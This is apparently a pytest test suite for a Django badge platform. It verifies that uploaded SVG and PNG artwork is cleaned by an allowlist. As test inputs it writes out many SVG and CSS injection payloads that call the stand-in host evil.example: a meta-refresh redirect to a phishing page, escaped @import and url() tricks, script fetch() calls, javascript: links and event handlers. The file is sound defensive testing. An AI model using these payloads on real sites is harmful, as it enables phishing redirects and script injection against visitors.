"""Script in our origin through badge artwork: uploaded SVG is cleaned by an allowlist of elements, attributes and
CSS properties (CSS escapes and comments decoded before judging), and artwork that already carries Open Badges data
is stripped of it, so it can neither redirect visitors of /badges/<id>/image nor break issuing and downloads.

The attacks go through the admin upload, the issuing pipeline and the public URLs over HTTP; the allowlist is also
checked property-based (hypothesis): whatever goes in, what comes out re-parses to allowlisted names only.
"""

from __future__ import annotations

import io
import re
import xml.parsers.expat

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from badges import artwork_allowlist as allowlist
from badges.artwork import ArtworkError, validate_artwork
from badges.issuing import award_issue
from badges.models import Award, AwardStatus, BadgeClass
from badges.openbadges.baking import png as png_baking
from badges.openbadges.baking import svg as svg_baking
from courses.services import enrolment_complete, enrolment_enrol
from tests.factories import CourseFactory, IssuerFactory, UserFactory, badge_png

pytestmark = pytest.mark.django_db

SVG_NS = "http://www.w3.org/2000/svg"
XLINK_NS = "http://www.w3.org/1999/xlink"
OPEN = f'<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" width="100" height="100" viewBox="0 0 100 100">'
CIRCLE = '<circle cx="50" cy="50" r="40" fill="#1f5ea0"/>'

META_REFRESH = (
    OPEN + '<html:meta xmlns:html="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
    'content="0;url=https://evil.example/phish"/>' + CIRCLE + "</svg>"
)


def _svg(body: str, open_tag: str = OPEN) -> bytes:
    return (open_tag + body + CIRCLE + "</svg>").encode()


# --- through the admin, the pipeline and the public URLs


def _staff_client() -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    return client


def _upload(client: Client, issuer, data: bytes, filename: str, name: str) -> BadgeClass:
    """Add a badge class with this artwork through the admin's own form."""
    form = client.get("/admin/badges/badgeclass/add/").content.decode()
    prefix = re.search(r'name="([\w-]+)-TOTAL_FORMS"', form).group(1)
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(
        "/admin/badges/badgeclass/add/",
        {
            "issuer": issuer.pk,
            "name": name,
            "description": "Artwork test",
            "criteria_narrative": "Do it.",
            "criteria_url": "",
            "image": SimpleUploadedFile(filename, data),
            "tags": "",
            "achievement_type": "Badge",
            "validity_days": "",
            f"{prefix}-TOTAL_FORMS": "0",
            f"{prefix}-INITIAL_FORMS": "0",
            f"{prefix}-MIN_NUM_FORMS": "0",
            f"{prefix}-MAX_NUM_FORMS": "1000",
        },
    )
    assert response.status_code == 302, re.findall(r'class="errorlist[^"]*">(.*?)</ul>', response.content.decode())
    return BadgeClass.objects.get(name=name)


def _issue(badge_class: BadgeClass, email: str = "ada@example.org") -> Award:
    course = CourseFactory(issuer=badge_class.issuer, badge_class=badge_class)
    enrolment = enrolment_enrol(actor=None, course=course, email=email, name="Ada Example")
    award = enrolment_complete(actor=None, enrolment=enrolment)
    award_issue(award_id=award.id)
    return Award.objects.get(pk=award.id)


def test_foreign_namespaced_meta_refresh_is_refused(client):
    """Attack: an <html:meta http-equiv="refresh"> in uploaded SVG artwork survived the blocklist (it is neither
    script nor handler) and redirected everyone opening /badges/<id>/image to a phishing page."""
    staff = _staff_client()
    badge = _upload(staff, IssuerFactory(), META_REFRESH.encode(), "art.svg", "Refresh")
    image = client.get(f"/badges/{badge.public_id}/image")
    assert image.status_code == 200 and image["Content-Type"] == "image/svg+xml"
    body = image.content.decode()
    for bad in ("refresh", "evil.example", "meta", "xhtml"):
        assert bad not in body, bad
    assert "<circle" in body


def test_css_escapes_and_comments_are_decoded_before_judging(client):
    """Attack: CSS escapes (@\\69mport, u\\72l()) and comments (u/**/rl) hid an @import and foreign url() from a
    blocklist that searched the raw text; the browser decodes them and fetches evil.example."""
    art = _svg(
        r"<style>@\69mport url(https://evil.example/a.css); rect { fill: u\72l(https://evil.example/b) }</style>"
        r"<style>circle { fill: u/**/rl(https://evil.example/c) } @\000069mport 'https://evil.example/d.css';</style>"
        r'<rect width="10" height="10" style="fill: \75 rl(https://evil.example/e)"/>'
        r'<rect width="10" height="10" style="background-image: url(https://evil.example/f)"/>'
    )
    staff = _staff_client()
    badge = _upload(staff, IssuerFactory(), art, "art.svg", "Escapes")
    body = client.get(f"/badges/{badge.public_id}/image").content.decode()
    assert "evil.example" not in body and "import" not in body
    assert "<rect" in body and "<circle" in body


@pytest.mark.parametrize(
    ("namespace", "element"),
    [
        ("https://purl.imsglobal.org/ob/v3p0", ""),  # merely the declaration
        ("https://purl.imsglobal.org/ob/v3p0", '<openbadges:credential verify="a.b.c"></openbadges:credential>'),
    ],
    ids=["ob3-declaration", "ob3-credential"],
)
def test_svg_carrying_ob3_data_does_not_stop_issuing(client, namespace, element):
    """Attack/accident: artwork exported from another badge platform declares xmlns:openbadges for OB 3.0. Every
    award of the class then failed to issue (OB 2.0 baking cannot bind the prefix). The upload strips it."""
    art = _svg(element, open_tag=OPEN[:-1] + f' xmlns:openbadges="{namespace}">')
    badge = _upload(_staff_client(), IssuerFactory(), art, "art.svg", "OB3 art")
    award = _issue(badge)
    assert award.status == AwardStatus.ISSUED, award.failure_reason
    _assert_downloads_work(award)


@pytest.mark.parametrize(
    "element",
    ["", '<openbadges:assertion verify="https://evil.example/assertion"/>'],
    ids=["ob2-declaration", "ob2-assertion"],
)
def test_svg_carrying_ob2_data_does_not_break_ob3_downloads(client, element):
    """Attack/accident: artwork that declares the OB 2.0 openbadges namespace (or carries someone else's baked
    assertion) made the OB 3.0 SVG download answer 500 for every award of the class."""
    art = _svg(element, open_tag=OPEN[:-1] + ' xmlns:openbadges="http://openbadges.org">')
    badge = _upload(_staff_client(), IssuerFactory(), art, "art.svg", "OB2 art")
    assert b"openbadges" not in badge.image.open("rb").read()
    award = _issue(badge)
    assert award.status == AwardStatus.ISSUED, award.failure_reason
    _assert_downloads_work(award)


def _assert_downloads_work(award: Award) -> None:
    from badges.public_urls import claim_token

    anonymous = Client(raise_request_exception=False)
    for filename in ("badge.svg", "badge-hosted.svg", "badge-ob3.svg", "badge-ob3-jwt.svg"):
        response = anonymous.get(f"/assertions/{award.public_id}/{filename}", {"claim": claim_token(award)})
        assert response.status_code == 200, (filename, response.status_code)
        version = "ob3" if "ob3" in filename else "ob2"
        assert svg_baking.unbake_svg(image=response.content, version=version)
        assert b"evil.example" not in response.content


def test_png_artwork_carrying_a_baked_badge_is_stripped(client):
    """Attack: a PNG with someone else's baked assertion and credential (iTXt 'openbadges' and
    'openbadgecredential') as a class's artwork: /badges/<id>/image itself verified as that other badge."""
    art = png_baking.bake_png(image=badge_png(), keyword=png_baking.KEYWORD_OB2, text="https://evil.example/a")
    art = png_baking.bake_png(image=art, keyword=png_baking.KEYWORD_OB3, text='{"id": "urn:evil"}')
    badge = _upload(_staff_client(), IssuerFactory(), art, "art.png", "PNG art")
    image = client.get(f"/badges/{badge.public_id}/image").content
    assert image.startswith(b"\x89PNG")
    for keyword in (png_baking.KEYWORD_OB2, png_baking.KEYWORD_OB3):
        assert png_baking.unbake_png(image=image, keyword=keyword) is None
    award = _issue(badge)
    assert award.status == AwardStatus.ISSUED, award.failure_reason
    assert "evil" not in png_baking.unbake_png(image=award.baked_png.open("rb").read(), keyword=png_baking.KEYWORD_OB2)


# --- the allowlist, trick by trick


@pytest.mark.parametrize(
    "body",
    [
        '<html:meta xmlns:html="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>',
        '<g xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="refresh" content="0;url=https://evil.example/"/></g>',
        '<iframe src="https://evil.example/"/>',
        "<script>fetch('https://evil.example/')</script>",
        '<Script xlink:href="https://evil.example/x.js"/>',
        '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">evil.example</handler>',
        '<set attributeName="href" to="https://evil.example/"/>',
        '<animate attributeName="xlink:href" values="https://evil.example/"/>',
        '<a href="https://evil.example/"><text>x</text></a>',
        '<a xlink:href=" javascript:evil.example()"><text>x</text></a>',
        '<use href="https://evil.example/s.svg#a"/>',
        '<use xlink:href="data:image/svg+xml,&lt;svg&gt;evil.example&lt;/svg&gt;#a"/>',
        '<image href="https://evil.example/t.png" width="1" height="1"/>',
        '<image href="data:image/svg+xml;base64,ZXZpbC5leGFtcGxl"/>',
        '<rect width="1" height="1" onclick="evil.example()"/>',
        '<rect width="1" height="1" xml:base="https://evil.example/"/>',
        '<rect width="1" height="1" fill="url(https://evil.example/p#g)"/>',
        '<rect width="1" height="1" filter="url(&quot;https://evil.example/f#x&quot;)"/>',
        '<rect width="1" height="1" style="fill:url(&#x27;https://evil.example/&#x27;)"/>',
        '<rect width="1" height="1" style="behavior:url(evil.example.htc)"/>',
        '<rect width="1" height="1" style="width:expression(evil.example())"/>',
        '<rect width="1" height="1" style="fill:red;-moz-binding:url(https://evil.example/x#y)"/>',
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>@font-face { src: url(https://evil.example/f.woff) }</style>",
        "<style>@\\69 mport 'https://evil.example/x.css';</style>",
        "<style>rect { fill: \\75 \\72 \\6c (https://evil.example/) }</style>",
        "<style>rect{background:u\\rl(https://evil.example/)}</style>",
        "<style><![CDATA[rect { fill: url(https://evil.example/) }]]></style>",
        "<style>rect { fill: red } </style><style>/* */@import url(//evil.example/x.css);</style>",
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">evil.example</div></foreignObject>',
        '<feImage href="https://evil.example/i.png"/>',
        '<text><tspan xml:base="https://evil.example/">x</tspan></text>',
        '<openbadges:assertion xmlns:openbadges="http://openbadges.org" verify="https://evil.example/a"/>',
    ],
)
def test_allowlist_refuses_the_trick(body):
    """Each trick alone: after cleaning, nothing of evil.example, no script, no handler, no foreign namespace."""
    clean = validate_artwork(data=_svg(body)).data.decode()
    _assert_only_allowed(clean)
    assert "evil.example" not in clean, clean
    assert "<circle" in clean


def test_ordinary_badge_artwork_is_kept_as_drawn():
    """What badge artwork needs survives byte for byte: gradients, clip paths, masks, local <use>, text, a
    <style> with class rules, url(#id) paints, embedded PNG/JPEG images, titles."""
    art = _svg(
        "<title>Welding</title><desc>A torch</desc>"
        '<defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="#fff"/>'
        '<stop offset="1" style="stop-color:#000;stop-opacity:.5"/></linearGradient>'
        '<radialGradient id="r"><stop offset="0" stop-color="red"/></radialGradient>'
        '<clipPath id="c"><rect width="50" height="50"/></clipPath><mask id="m"><rect width="9" height="9" '
        'fill="white"/></mask><symbol id="s" viewBox="0 0 10 10"><path d="M0 0L10 10"/></symbol>'
        '<pattern id="p" width="4" height="4" patternUnits="userSpaceOnUse"><line x1="0" y1="0" x2="4" y2="4" '
        'stroke="#000"/></pattern></defs>'
        "<style>.cls-1{fill:url(#g);stroke:#333;stroke-width:2px}.t{font-family:'Open Sans',sans-serif}</style>"
        '<g transform="translate(5 5)" clip-path="url(#c)" mask="url(#m)"><ellipse class="cls-1" cx="5" cy="5" '
        'rx="4" ry="3"/><polygon points="0,0 5,5 0,5" fill="url(#p)"/><polyline points="1,1 2,2"/>'
        '<use href="#s" x="1"/><use xlink:href="#s" y="1"/></g>'
        '<text class="t" x="10" y="90" text-anchor="middle">Weld<tspan font-weight="bold">ing</tspan></text>'
        '<image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>'
        '<image width="1" height="1" xlink:href="data:image/jpeg;base64,/9j/4AAQ"/>'
    )
    result = validate_artwork(data=art)
    assert result.removed == () and result.data == art


# --- property: whatever goes in, only allowlisted names come out

_ELEMENT_NAMES = [
    "g", "rect", "circle", "path", "text", "tspan", "style", "a", "use", "image", "defs", "linearGradient",
    "stop", "clipPath", "mask", "title", "symbol", "pattern", "script", "Script", "foreignObject", "set",
    "animate", "iframe", "html:meta", "html:script", "x:style", "feImage", "handler", "metadata",
    "openbadges:assertion",
]  # fmt: skip
_ATTRIBUTE_NAMES = [
    "id", "class", "fill", "stroke", "style", "href", "xlink:href", "width", "x", "d", "transform", "onload",
    "onclick", "OnLoad", "http-equiv", "content", "xml:base", "xml:space", "html:onclick", "x:href", "target",
    "attributeName", "to", "values", "begin", "filter", "mask", "clip-path",
]  # fmt: skip
_VALUES = [
    "#a", "red", "url(#a)", "url(https://evil.example/)", "u\\72l(https://evil.example/)", "javascript:evil()",
    " JAVASCRIPT:evil()", "https://evil.example/", "//evil.example/", "data:image/png;base64,iVBO",
    "data:image/svg+xml;base64,PHN2Zy8+", "data:text/html,evil", "0;url=https://evil.example/", "expression(evil)",
    "fill:red", "fill:url(#a)", "fill:url(https://evil.example/)", "@\\69mport 'https://evil.example/'",
    "fill:u/**/rl(//evil.example/)", "\\", "\\75rl(x)", "1 2 3", "",
]  # fmt: skip
_CSS = [
    "rect{fill:red}", ".a{fill:url(#g)}", "@import url(https://evil.example/x.css);",
    "@\\69mport 'https://evil.example/';", "rect{fill:u\\72l(https://evil.example/)}", "a{b:c}}{",
    "rect{fill:red;behavior:url(evil.htc)}", "/*", "rect{fill:u/**/rl(//evil.example/)}", "}{@media{}",
]  # fmt: skip

_PREFIXES = 'xmlns:html="http://www.w3.org/1999/xhtml" xmlns:x="https://evil.example/ns" ' + (
    'xmlns:openbadges="http://openbadges.org"'
)


def _escape(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


@st.composite
def _element(draw, depth: int = 0) -> str:
    name = draw(st.sampled_from(_ELEMENT_NAMES))
    attributes = draw(st.dictionaries(st.sampled_from(_ATTRIBUTE_NAMES), st.sampled_from(_VALUES), max_size=4))
    attrs = "".join(f' {key}="{_escape(value)}"' for key, value in attributes.items())
    if name == "style":
        return f"<style{attrs}>{_escape(draw(st.sampled_from(_CSS)))}</style>"
    children = draw(st.lists(_element(depth + 1), max_size=3)) if depth < 3 else []
    text = _escape(draw(st.sampled_from(["", "hi", "evil.example"])))
    return f"<{name}{attrs}>{text}{''.join(children)}</{name}>"


@hypothesis_settings(max_examples=300, deadline=None)
@given(st.lists(_element(), min_size=1, max_size=4))
def test_cleaned_svg_reparses_to_allowlisted_names_only(children):
    """Property: for any mix of allowed and hostile elements, attributes, values and CSS, the cleaned SVG is
    well-formed and holds only SVG-namespace elements and attributes of the allowlist, local references, and
    CSS without @-rules, escapes or foreign url()."""
    data = f'<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" {_PREFIXES}>{"".join(children)}</svg>'.encode()
    try:
        clean = validate_artwork(data=data).data.decode()
    except ArtworkError:
        return  # refusing is always allowed
    _assert_only_allowed(clean)
    assert "evil.example/" not in re.sub(r">[^<]*<", "><", clean)  # only as plain text content, never a reference


# Independent of badges/artwork.py's tables on purpose: what an SVG image may hold, judged from the outside.
_DANGEROUS_ELEMENTS = {"script", "foreignObject", "iframe", "set", "animate", "handler", "feImage", "meta"}
_FUNCTION = re.compile(r"([a-zA-Z-]+)\s*\(")


def _assert_only_allowed(clean: str) -> None:
    parser = xml.parsers.expat.ParserCreate(namespace_separator="|")
    found: list[tuple[str, dict[str, str], str]] = []
    texts: dict[int, list[str]] = {}

    def start(name, attributes):
        found.append((name, attributes, ""))
        texts[len(found) - 1] = []

    def chars(data):
        if found:
            texts[len(found) - 1].append(data)

    parser.StartElementHandler = start
    parser.CharacterDataHandler = chars
    parser.Parse(clean.encode(), True)
    for index, (name, attributes, _) in enumerate(found):
        namespace, _, local = name.rpartition("|")
        assert namespace == SVG_NS, name
        assert local not in _DANGEROUS_ELEMENTS and local in allowlist.ELEMENTS, local
        for attribute, value in attributes.items():
            attr_ns, _, attr_local = attribute.rpartition("|")
            assert attr_ns in ("", XLINK_NS, "http://www.w3.org/XML/1998/namespace"), attribute
            assert not attr_local.lower().startswith("on"), attribute
            assert attr_ns or attr_local in allowlist.ATTRIBUTES, attribute
            assert attr_local not in ("base", "http-equiv", "attributeName"), attribute
            if attr_local == "href":
                assert value.startswith("#") or re.match(r"data:image/(png|jpeg);base64,", value), value
            _assert_css_safe(value)
        if local == "style":
            _assert_css_safe("".join(texts[index]))


def _assert_css_safe(text: str) -> None:
    lowered = text.lower()
    assert "\\" not in text and "@" not in text and "/*" not in text, text
    assert "javascript:" not in lowered and "expression(" not in lowered and "behavior" not in lowered, text
    for match in re.finditer(r"url\(\s*(['\"]?)(.*?)\1\s*\)", text, re.I):
        assert match.group(2).startswith("#"), text
    for function in _FUNCTION.findall(text):
        assert function.lower() in {"url", "rgb", "rgba", "hsl", "hsla", "translate", "scale", "rotate", "matrix",
                                    "skewx", "skewy", "translatex", "translatey", "var", "calc"} or text.startswith(
            ("data:", "#")
        ), (function, text)  # fmt: skip


def test_artwork_stored_before_the_allowlist_is_cleaned_by_the_upgrade_command(client):
    """Attack already in place: artwork uploaded before this fix (a meta refresh, an OB 3.0 declaration) is still
    stored. `manage.py clean_artwork` re-cleans it; the redirect is gone and awards of the class issue again."""
    from django.core.files.base import ContentFile
    from django.core.management import call_command

    from tests.factories import BadgeClassFactory

    dirty = META_REFRESH.replace(OPEN, OPEN[:-1] + ' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">')
    badge = BadgeClassFactory(image=ContentFile(dirty.encode(), name="old.svg"))
    clean_png = BadgeClassFactory(issuer=badge.issuer)
    untouched = clean_png.image.open("rb").read()
    call_command("clean_artwork", stdout=io.StringIO())
    body = client.get(f"/badges/{badge.public_id}/image").content.decode()
    assert "refresh" not in body and "openbadges" not in body and "<circle" in body
    assert BadgeClass.objects.get(pk=clean_png.pk).image.open("rb").read() == untouched
    assert _issue(BadgeClass.objects.get(pk=badge.pk)).status == AwardStatus.ISSUED


@pytest.mark.django_db
def test_institution_logo_upload_nobody_checks_is_not_offered(admin_client):
    """Attack surface: the institution form took any file as a logo, unchecked by content and served by nothing.
    Until the logo is used (and checked like artwork), the form does not offer it."""
    from tests.factories import IssuerFactory

    issuer = IssuerFactory()
    for url in ("/admin/issuers/issuer/add/", f"/admin/issuers/issuer/{issuer.pk}/change/"):
        page = admin_client.get(url)
        assert page.status_code == 200 and 'name="image"' not in page.content.decode()
